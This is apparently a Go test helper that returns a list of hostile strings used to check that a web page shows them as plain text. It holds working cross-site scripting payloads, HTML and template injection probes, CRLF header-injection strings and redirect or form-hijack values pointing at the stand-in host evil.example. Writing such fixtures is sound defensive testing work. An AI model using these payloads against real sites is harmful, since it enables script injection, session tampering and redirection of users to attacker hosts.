package webtest

import "strings"

// HostileMarker is the global variable of a page that the scripts in [HostileTexts] set.
const HostileMarker = "hostile"

// HostileTexts returns strings that attack a page. They must be text wherever it shows them.
func HostileTexts() []string {
	return []string{
		`<script>alert(window.hostile=1)</script>`, `</script><script>alert(window.hostile=1)</script>`, `<ScRiPt src=//evil.example>`, `<scr<script>ipt>`, "<scr\x00ipt>alert(window.hostile=1)",
		`"><img src=x onerror=alert(window.hostile=1)>`, `'><img src=x onerror=alert(window.hostile=1)>`, `" onfocus="alert(window.hostile=1)" autofocus x="`, `' onmouseover='alert(window.hostile=1)`, "` onload=`alert(window.hostile=1)",
		`</title><svg onload=alert(window.hostile=1)>`, `</h1></main></body></html><script>1</script>`, `</a><a href="javascript:alert(window.hostile=1)">`, `</form><form action=//evil.example>`,
		`<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example>`,
		`<iframe srcdoc="<script>1</script>">`, `<object data=//evil.example>`, `<embed src=//evil.example>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(window.hostile=1)>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(window.hostile=1)>">`, `<template><script>1</script></template>`, `<plaintext>`, `<textarea>`, `<select><option>`, `<style>*{display:none}</style>`,
		`<input name=token value=x>`, `<button formaction=//evil.example>`, `<!--`, `--><script>1</script>`, `<![CDATA[<script>1</script>]]>`, `<?xml version="1.0"?>`,
		`javascript:alert(window.hostile=1)`, "java\tscript:alert(window.hostile=1)", " javascript:alert(window.hostile=1)", `JaVaScRiPt:alert(window.hostile=1)`, `vbscript:x`, `data:text/html,<script>1</script>`,
		`//evil.example`, `/\evil.example`, `https://evil.example/`, `/flags//evil.example`, `/flags?x=<script>`, `/flags"onclick="x`, `/flags'`,
		`{{.}}`, `{{template "main" .}}`, `${7*7}`, `%3Cscript%3E`, `%22%3E%3Cscript%3E`, `%0d%0aSet-Cookie:a=b`, `%00`, `&lt;script&gt;`, `&#x3C;script&#x3E;`, `&quot; onload=x`, `&`, `&amp`,
		"\r\nSet-Cookie: a=b", "\r\n\r\n<script>1</script>", "\x00", "\x01\x1b[31m", "\x7f", "\xff\xfe", "\xc0\xbcscript\xc0\xbe", "+ADw-script+AD4-", "＜script＞", "ʺ><script>1</script>",
		"\u202eevil\u202c", "\u2066a\u2069", "\u200b\u200d", "\u2028\u2029", "\ufeff", "\ufffe", "مرحبا", "e\u0301\u0301\u0301", "👩‍👩‍👧", "\U000e0041", `"`, `'`, "`", `\`, `<`, `>`, `=`, `;`, `#`, `?`, ` `, "\t",
		strings.Repeat("<b>", 2000), strings.Repeat("\"'", 2000), strings.Repeat("ä", 2000), // encoded, a form may have it
	}
}
